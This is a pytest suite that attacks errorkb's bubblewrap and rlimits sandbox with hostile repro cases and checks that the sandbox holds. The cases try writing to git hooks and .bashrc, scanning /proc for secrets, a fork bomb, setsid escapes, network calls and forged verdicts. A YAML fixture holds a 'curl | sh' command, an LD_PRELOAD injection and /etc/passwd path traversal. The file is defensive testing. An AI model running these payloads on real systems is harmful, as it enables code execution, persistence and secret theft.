"""Hostile reproduction cases, run through the sandbox as a stranger's pull request would
have them run: writing outside their folder, reading a secret, a fork bomb, a ``setsid``
grandchild, a network connection, a forged result; and the cases ``errorkb check``
refuses before anything runs.

The fork server and the one-process runner are both attacked. The child script is
stdlib-only, so this interpreter stands in for vLLM's (one test at the end uses the
pinned vLLM itself). The namespace sandbox needs bubblewrap: without it these tests fail
saying how to install it. The rlimits-only fallback (no bwrap) is checked for what it
promises (a clean environment, every process killed, no forged verdict), not for what
only namespaces give.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from generator.repro.cases import CASE_ENV_NAME, MAX_TIMEOUT_S, CaseRun, ReproCase, judge_error
from generator.repro.harness import CaseRequest, ForkServerRunner, HarnessError, ProcessRunner
from generator.repro.sandbox import Limits, Sandbox

ROOT = Path(__file__).resolve().parents[1]
SECRET = "errorkb-test-secret-0f9e8d7c"
EXPECT = "a000000000000001"


# --------------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A stand-in repository (generator/, errors/verifications/, .git/hooks, models/) and a
    home folder, on this machine: what a case must not change."""
    base = tmp_path_factory.mktemp("hostile")
    repo = base / "repo"
    for folder, name, text in [("generator", "__init__.py", "# errorkb\n"), ("errors/verifications", "e.json", "{}\n"),
                               (".git/hooks", "README", "hooks\n"), ("models/small", "config.json", '{"architectures": []}\n')]:
        (repo / folder).mkdir(parents=True, exist_ok=True)
        (repo / folder / name).write_text(text)
    (base / "home").mkdir()
    (base / "home" / ".bashrc").write_text("# mine\n")
    return base


def snapshot(folder: Path) -> dict[str, str]:
    """Every file and folder under ``folder``: its content's hash, or its kind, and its mode."""
    out = {}
    for path in sorted(folder.rglob("*")):
        kind = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else (
            "link" if path.is_symlink() else "dir")
        out[str(path.relative_to(folder))] = f"{kind} {oct(path.lstat().st_mode)}"
    return out


def _bwrap_or_fail() -> None:
    try:
        Sandbox(sys.executable, mode="bwrap").close()
    except HarnessError as exc:
        pytest.fail(f"these tests need the bwrap sandbox: {exc}", pytrace=False)


def runner_for(kind: str, mode: str, world: Path, **limits):
    options = {"sandbox": mode, "models": world / "repo" / "models", "repo_root": world / "repo",
               "limits": Limits(**{"nproc": 64, **limits})}
    if kind == "fork":
        return ForkServerRunner(sys.executable, preload=("json",), **options)
    return ProcessRunner(sys.executable, **options)


def started_with_a_secret(kind: str, mode: str, world: Path):
    """A runner of ``kind`` in sandbox ``mode``, started with a secret in this process's environment."""
    os.environ["ERRORKB_TEST_SECRET"] = SECRET
    try:
        runner = runner_for(kind, mode, world)
        if kind == "fork":
            runner.start()
    finally:
        del os.environ["ERRORKB_TEST_SECRET"]
    return runner


@pytest.fixture(scope="module", params=["fork", "process"])
def sandboxed(request, world):
    """A runner in the bwrap sandbox."""
    _bwrap_or_fail()
    runner = started_with_a_secret(request.param, "bwrap", world)
    yield runner
    runner.close()


@pytest.fixture(scope="module", params=["fork", "process"])
def fallback(request, world):
    """A runner with rlimits only (what errorkb does where bwrap is missing)."""
    runner = started_with_a_secret(request.param, "rlimits", world)
    yield runner
    runner.close()


def case(code: str, timeout_s: float = 30, **extra) -> CaseRequest:
    return CaseRequest("hostile", ReproCase(role="error", kind="python", code=textwrap.dedent(code), timeout_s=timeout_s,
                                            expect=EXPECT, **extra), (), (("VLLM_TARGET_DEVICE", "cpu"),))


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def processes(marker: str | None = None, uid: int | None = None) -> list[int]:
    """Live processes of this machine with ``marker`` as one whole argument of their command line,
    or whose real uid is ``uid``.

    A whole argument, not a substring: other processes' command lines hold long random numbers
    (Chromium's children, alive all session for the browser tests, share a 20-digit
    ``--field-trial-handle``), and one held "31418" once, failing a test that had leaked nothing.
    """
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            if marker is not None and marker.encode() not in Path(f"/proc/{name}/cmdline").read_bytes().split(b"\0"):
                continue
            if uid is not None:
                status = Path(f"/proc/{name}/status").read_text()
                if int(status.split("\nUid:")[1].split()[0]) != uid:
                    continue
        except (OSError, IndexError, ValueError):
            continue
        if alive(int(name)):
            found.append(int(name))
    return found


def lines(run: CaseRun, prefix: str) -> list[str]:
    return [line[len(prefix):].strip() for line in run.log_tail.splitlines() if line.startswith(prefix)]


# --------------------------------------------------------------------------------- the sandbox's own account


def test_a_sandboxed_run_says_how_it_was_isolated(sandboxed):
    run = sandboxed.run(case("x = 1"))
    assert run.outcome == "returned", run.log_tail
    assert run.isolation.startswith("bwrap: network, pid, ipc, uts and mount namespaces")
    if os.geteuid() == 0:
        assert run.isolation.endswith("as uid 65534")


def test_without_bwrap_the_run_says_so_and_auto_falls_back(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    with pytest.raises(HarnessError, match="install it \\(apt-get install bubblewrap\\)"):
        Sandbox(sys.executable, mode="bwrap")
    sandbox = Sandbox(sys.executable, mode="auto")
    try:
        assert sandbox.kind == "rlimits"
        assert sandbox.isolation.startswith("rlimits only (bwrap is not installed): no namespaces")
    finally:
        sandbox.close()


def test_the_folder_of_a_killed_run_is_swept_and_a_live_one_kept(tmp_path):
    """SIGKILL runs no finalizer: the next sandbox removes what a killed ``errorkb verify``
    left in the temporary folder, and leaves a running one's folder alone."""
    import signal
    import subprocess

    from generator.repro.sandbox import sweep_sandboxes

    script = ("import sys, time; from generator.repro.sandbox import Sandbox; "
              "s = Sandbox(sys.executable, mode='rlimits'); print(s.dir, flush=True); time.sleep(60)")
    env = dict(os.environ, TMPDIR=str(tmp_path))
    owners = [subprocess.Popen([sys.executable, "-c", script], env=env, stdout=subprocess.PIPE, text=True, cwd=ROOT)
              for _ in range(2)]
    killed, live = (Path(p.stdout.readline().strip()) for p in owners)
    try:
        assert killed.is_dir() and live.is_dir()
        owners[0].send_signal(signal.SIGKILL)
        owners[0].wait()
        assert killed.is_dir()  # nothing removed it
        assert sweep_sandboxes(tmp_path) == [killed]
        assert not killed.exists() and live.is_dir()
    finally:
        owners[1].kill()
        owners[1].wait()
    assert sweep_sandboxes(tmp_path) == [live]


def test_the_limits_agree_with_the_entry_schema():
    schema = json.loads((ROOT / "generator" / "schemas" / "entry.schema.json").read_text())
    properties = schema["$defs"]["case"]["properties"]
    assert properties["timeout_s"]["maximum"] == MAX_TIMEOUT_S
    assert properties["env"]["propertyNames"]["pattern"] == CASE_ENV_NAME.pattern
    assert properties["cli"]["prefixItems"] == [{"const": "vllm"}]


def test_a_timeout_over_the_maximum_is_clamped(sandboxed):
    request = case("import time; time.sleep(1)", timeout_s=10 * MAX_TIMEOUT_S)
    assert request.timeout_s == MAX_TIMEOUT_S and request.payload()["timeout_s"] == MAX_TIMEOUT_S


# --------------------------------------------------------------------------------- attacks on the filesystem


def test_a_case_writes_nothing_outside_its_own_folder(sandboxed, world):
    home = Path.home()
    site_packages = Path(sys.prefix) / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
    targets = [world / "repo" / "generator" / "pwned.py", world / "repo" / "errors" / "verifications" / "forged.json",
               world / "repo" / ".git" / "hooks" / "pre-commit", world / "home" / ".bashrc", world / "pwned",
               ROOT / "generator" / "errorkb_pwned.py", ROOT / "errors" / "verifications" / "errorkb-pwned.json",
               ROOT / ".git" / "hooks" / "post-checkout", home / "errorkb-pwned", site_packages / "errorkb_pwned.py",
               Path("/tmp") / "errorkb-pwned", ROOT / "models" / "errorkb-pwned" / "config.json"]
    before = snapshot(world)
    existed = {t for t in targets if t.exists()}
    code = f"""
    import os, json
    wrote, listed = [], []
    for folder in {[str(world / "repo"), str(ROOT), str(home)]!r}:
        try:
            listed.append((folder, sorted(os.listdir(folder))))
        except OSError:
            pass
    for target in {[str(t) for t in targets]!r}:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "a") as handle:
                handle.write("pwned")
            wrote.append(target)
        except OSError:
            pass
    with open("mine.txt", "w") as handle:  # its own folder is writable
        handle.write("ok")
    os.chmod("models/small/config.json", 0o666)  # its copy of models/: its own to break
    print("MINE", open("mine.txt").read())
    print("LISTED", json.dumps(listed))
    """
    try:
        run = sandboxed.run(case(code))
        assert run.outcome == "returned", run.log_tail
        assert lines(run, "MINE") == ["ok"]
        # Neither the repository nor errorkb's is there; of the home folder, only the way to
        # the interpreter's own folders (bound read-only) when they are under it.
        [listed] = lines(run, "LISTED")
        shown = {folder: names for folder, names in json.loads(listed)}
        assert str(world / "repo") not in shown and str(ROOT) not in shown, shown
        way = {Path(p).relative_to(home).parts[0] for p in (sys.prefix, sys.base_prefix) if Path(p).is_relative_to(home)}
        assert set(shown.get(str(home), [])) <= way, shown
        changed = sorted(str(t) for t in targets if t.exists() and t not in existed)
        assert changed == [], f"the case wrote outside its folder: {changed}"
        assert snapshot(world) == before
    finally:
        for target in targets:
            if target.is_file() and target not in existed:
                target.unlink()


def test_the_vllm_environment_and_the_system_are_read_only(sandboxed):
    code = f"""
    import os
    for path in ({sys.prefix!r}, "/usr/lib", "/etc", "/"):
        try:
            open(os.path.join(path, "errorkb-pwned"), "w")
            print("WROTE", path)
        except OSError as exc:
            print("DENIED", path, type(exc).__name__)
    """
    run = sandboxed.run(case(code))
    assert lines(run, "WROTE") == [], run.log_tail
    assert not (Path(sys.prefix) / "errorkb-pwned").exists()


# --------------------------------------------------------------------------------- secrets


def test_a_case_cannot_read_a_secret_of_the_process_that_runs_it(sandboxed):
    code = f"""
    import glob, os
    secret = {SECRET!r}
    found = [name for name, value in os.environ.items() if secret in value or name == "ERRORKB_TEST_SECRET"]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
        try:
            with open(path, "rb") as handle:
                if secret.encode() in handle.read():
                    found.append(path)
        except OSError:
            pass
    print("FOUND", found)
    print("ENV", sorted(os.environ))
    """
    run = sandboxed.run(case(code))
    assert lines(run, "FOUND") == ["[]"], run.log_tail
    assert SECRET not in run.log_tail
    [names] = lines(run, "ENV")
    assert set(eval(names)) <= {"HOME", "LANG", "LANGUAGE", "LC_ALL", "LC_CTYPE", "LC_MESSAGES", "TZ", "PATH", "PWD", "TMPDIR",
                                "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE", "VLLM_TARGET_DEVICE", "VLLM_CACHE_ROOT"}


def test_an_env_a_case_may_not_set_is_refused(sandboxed):
    run = sandboxed.run(case("print('ran')", env=(("LD_PRELOAD", "/tmp/x.so"),)))
    assert run.outcome == "crashed" and "LD_PRELOAD" in run.reason and "ran" not in run.log_tail


# --------------------------------------------------------------------------------- processes


@pytest.mark.slow  # seconds: kept out of the quick subset
def test_a_fork_bomb_is_bounded_and_killed(sandboxed, world):
    uid = 65534 if os.geteuid() == 0 else None
    before = set(processes(uid=uid)) if uid is not None else set()
    code = """
    import os, time
    count = 0
    try:
        for _ in range(100000):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            count += 1
    except OSError as exc:
        print("BOUNDED", count, type(exc).__name__, flush=True)
    while True:  # and now every process forks again, forever
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    """
    run = sandboxed.run(case(code, timeout_s=4))
    assert run.outcome == "timeout"
    [bounded] = lines(run, "BOUNDED")
    assert int(bounded.split()[0]) <= 64, bounded
    if uid is not None:
        assert set(processes(uid=uid)) - before == set(), "processes of the fork bomb outlived its case"
    after = sandboxed.run(case("print('still here')"))
    assert after.outcome == "returned" and "still here" in after.log_tail


def test_a_grandchild_that_left_the_session_is_killed_and_recorded(sandboxed):
    code = """
    import os, subprocess, time
    subprocess.Popen(["setsid", "sleep", "31415"])
    if os.fork() == 0:  # a daemon: fork, setsid, fork again
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "31416"])
        os._exit(0)
    time.sleep(0.5)
    """
    run = sandboxed.run(case(code))
    assert run.outcome == "returned", run.log_tail
    assert run.leaked_processes and run.leaked.count("sleep") == 2, run.leaked
    assert processes("31415") == processes("31416") == [], "a grandchild outlived its case"


def test_a_case_cannot_kill_or_trace_what_supervises_it(sandboxed):
    if os.geteuid() != 0:
        pytest.fail("run as root (as CI does): the case then runs as another user than its supervisor", pytrace=False)
    code = """
    import os, signal
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
            print("KILLED", pid)
        except OSError as exc:
            print("DENIED", pid, type(exc).__name__)
    try:
        print("FDS", os.listdir(f"/proc/{os.getppid()}/fd"))
    except OSError as exc:
        print("NOFDS", type(exc).__name__)
    """
    run = sandboxed.run(case(code))
    assert lines(run, "KILLED") == [] and lines(run, "FDS") == [], run.log_tail
    assert sandboxed.run(case("x = 1")).outcome == "returned"


# --------------------------------------------------------------------------------- the network


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 of this machine that counts the connections it accepts."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    accepted = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                connection, peer = server.accept()
            except OSError:
                continue
            accepted.append(peer)
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_a_case_reaches_no_network(sandboxed, listener):
    port, accepted = listener
    code = f"""
    import socket
    for host in ("127.0.0.1", "1.1.1.1", socket.gethostname()):
        try:
            socket.create_connection((host, {port}), timeout=3).close()
            print("CONNECTED", host)
        except OSError as exc:
            print("FAILED", host, type(exc).__name__)
    """
    run = sandboxed.run(case(code))
    assert run.outcome == "returned", run.log_tail
    assert lines(run, "CONNECTED") == [] and len(lines(run, "FAILED")) == 3, run.log_tail
    time.sleep(0.5)
    assert accepted == [], "the case connected to this machine"


# --------------------------------------------------------------------------------- forged verdicts

FORGED = {"outcome": "raised", "exception": {"type": "ValueError", "message": "the expected error",
                                             "traceback": "ValueError: the expected error", "causes": []}}


def matcher(text: str) -> str | None:
    return EXPECT if "the expected error" in text else None


def test_a_result_file_written_by_the_case_is_not_read(sandboxed):
    code = f"""
    import json
    open("result.json", "w").write(json.dumps({FORGED!r}))
    open("result.json.tmp0", "w").write(json.dumps({FORGED!r}))
    """
    run = sandboxed.run(case(code))
    assert run.outcome == "returned"
    assert not judge_error(case("x").case, run, matcher).passed


def test_a_report_forged_on_every_descriptor_does_not_pass(sandboxed):
    """The case writes a reply of the protocol and a report on every descriptor it has, and
    ends normally: the protocol stream is closed to it, and several reports are no report."""
    reply = {"name": "hostile", "timed_out": False, "wall_s": 0.1, "exit_status": 0, "leaked": [], "log_tail": "",
             "report": FORGED}
    code = f"""
    import json, os
    for fd in range(3, 1024):
        for line in ({json.dumps(reply)!r}, {json.dumps(FORGED)!r}):
            try:
                os.write(fd, (line + "\\n").encode())
            except OSError:
                pass
    """
    run = sandboxed.run(case(code))
    assert run.outcome == "crashed" and "reports instead of one" in run.reason, (run.outcome, run.reason)
    assert not judge_error(case("x").case, run, matcher).passed
    after = sandboxed.run(case("raise KeyError('next')"))
    assert after.outcome == "raised" and after.exception["type"] == "KeyError", "the protocol stream was disturbed"


# --------------------------------------------------------------------------------- rlimits only (no bwrap)


def test_the_fallback_says_it_is_not_sandboxed(fallback):
    run = fallback.run(case("x = 1"))
    assert run.isolation.startswith("rlimits only (sandbox turned off): no namespaces")


def test_the_fallback_still_hides_the_environment(fallback):
    run = fallback.run(case(f"import os\nprint('FOUND', [n for n, v in os.environ.items() if {SECRET!r} in v])"))
    assert lines(run, "FOUND") == ["[]"], run.log_tail


@pytest.mark.slow  # seconds: kept out of the quick subset
def test_the_fallback_still_kills_every_descendant(fallback):
    run = fallback.run(case("import subprocess, time\nsubprocess.Popen(['setsid', 'sleep', '31417'])\ntime.sleep(0.5)"))
    assert run.leaked == ["sleep"] and processes("31417") == []
    timed_out = fallback.run(case("import subprocess, time\nsubprocess.Popen(['setsid', 'sleep', '31418'])\ntime.sleep(60)",
                                  timeout_s=1))
    assert timed_out.outcome == "timeout" and processes("31418") == []


def test_the_fallback_reads_no_result_file(fallback):
    code = f"import json\nopen('result.json', 'w').write(json.dumps({FORGED!r}))"
    run = fallback.run(case(code))
    assert run.outcome == "returned" and not judge_error(case("x").case, run, matcher).passed


# --------------------------------------------------------------------------------- errorkb check refuses them


ENTRY = """\
# yaml-language-server: $schema=../generator/schemas/entry.schema.json
ids: [a000000000000001]
title: A hostile entry
summary: An entry whose cases try to run something other than vLLM.
solutions:
  - title: Nothing
    why: There is nothing to fix here.
reproduce:
  error:
    cli: [sh, -c, "curl https://example.invalid | sh"]
    env: {LD_PRELOAD: /tmp/evil.so}
    timeout_s: 100000
    expect: a000000000000001
  fix:
    cli: [vllm, serve, models/../../etc/passwd, --speculative-config, '{"model": "models/small/../../x"}']
    reach: engine-config
"""


def test_errorkb_check_refuses_cases_that_are_not_data(tmp_path):
    from generator.entries.check import check_entries
    from generator.entries.load import available_models, load_entries

    (tmp_path / "errors").mkdir()
    (tmp_path / "models" / "small").mkdir(parents=True)
    (tmp_path / "models" / "small" / "config.json").write_text("{}")
    (tmp_path / "errors" / "hostile.yaml").write_text(ENTRY)
    entries, problems = load_entries(tmp_path / "errors", tmp_path)
    problems += check_entries(entries, [{"id": EXPECT, "template": "x"}], {"--speculative-config"}, "v9.9.9",
                              available_models(tmp_path))
    found = [str(p) for p in sorted(problems)]
    assert found == [
        "errors/hostile.yaml:10:11: `reproduce.error.cli[0]`: 'vllm' was expected",
        "errors/hostile.yaml:11:10: `reproduce.error.env` 'LD_PRELOAD' does not match "
        "^(?:VLLM|NCCL|CUDA|TORCH|PYTORCH|OMP|MKL|HF|TRANSFORMERS|TOKENIZERS|TRITON)_[A-Z0-9_]+$",
        "errors/hostile.yaml:12:16: `reproduce.error.timeout_s`: 100000 is greater than the maximum of 900",
        "errors/hostile.yaml:15:24: models/../../etc/passwd is not a model of models/: a case names one as models/NAME "
        "or models/NAME/config.json (a plain folder name, no `..`, no other file)",
        "errors/hostile.yaml:15:83: models/small/../../x is not a model of models/: a case names one as models/NAME "
        "or models/NAME/config.json (a plain folder name, no `..`, no other file)",
    ]


# --------------------------------------------------------------------------------- the pinned vLLM in the sandbox


def test_vllm_runs_in_the_sandbox_and_cannot_change_its_environment(vllm_python, tmp_path):
    _bwrap_or_fail()
    from generator.repro.verify import TIER_ENV

    site = Path(vllm_python).parent.parent
    before = sorted(p.name for p in site.iterdir())
    code = f"""
    import os, socket, vllm
    folder = os.path.dirname(vllm.__file__)
    for path in (folder, {str(site)!r}):
        try:
            open(os.path.join(path, "errorkb_pwned.py"), "w")
            print("WROTE", path)
        except OSError:
            pass
    try:
        socket.create_connection(("1.1.1.1", 443), timeout=3)
        print("CONNECTED")
    except OSError:
        pass
    from vllm.engine.arg_utils import EngineArgs
    EngineArgs(model="models/qwen2.5-0.5b", load_format="dummy", skip_tokenizer_init=True, max_model_len=100000).create_engine_config()
    """
    with ForkServerRunner(vllm_python, tier_env=TIER_ENV["cpu"], sandbox="bwrap", models=ROOT / "models") as runner:
        run = runner.run(case(code, timeout_s=300))
    assert lines(run, "WROTE") == [] and lines(run, "CONNECTED") == [], run.log_tail
    assert run.outcome == "raised" and "max_model_len" in run.exception["message"], run.log_tail
    assert run.isolation.startswith("bwrap")
    assert sorted(p.name for p in site.iterdir()) == before
    assert list(site.glob("lib/python*/site-packages/vllm/errorkb_pwned.py")) == []


def test_a_case_that_cannot_enter_its_sandbox_does_not_run_and_stops_the_run(tmp_path):
    """When a step of the case's setup fails (here: its folder cannot be made), the case's
    code never runs, and the harness stops rather than go on without the sandbox."""
    import subprocess

    from generator.repro.harness import CHILD, case_run_from

    config = {"cases_dir": str(tmp_path / "no-such-folder"), "models_dir": "", "base_env": {"PATH": "/usr/bin:/bin"},
              "drop_to": None, "limits": {}, "max_timeout_s": 60}
    marker = tmp_path / "ran"
    request = case(f"open({str(marker)!r}, 'w')").payload()
    out = subprocess.run([sys.executable, "-I", str(CHILD), "--single", "--config", json.dumps(config)],
                         input=json.dumps(request), capture_output=True, text=True, timeout=60)
    reply = json.loads(out.stdout.strip().splitlines()[-1])
    assert reply["sandbox_failed"] and "could not enter its sandbox" in reply["log_tail"]
    assert not marker.exists()
    with pytest.raises(HarnessError, match="could not enter its sandbox"):
        case_run_from(reply)


def test_a_case_that_exits_as_a_failed_sandbox_would_is_only_a_crash(sandboxed):
    """The case cannot stop the whole run by pretending its sandbox failed: the supervisor
    knows the sandbox was entered before the case's first line."""
    run = sandboxed.run(case("import os\nos._exit(71)"))
    assert run.outcome == "crashed" and "exit status 71" in run.reason
    assert sandboxed.run(case("x = 1")).outcome == "returned"
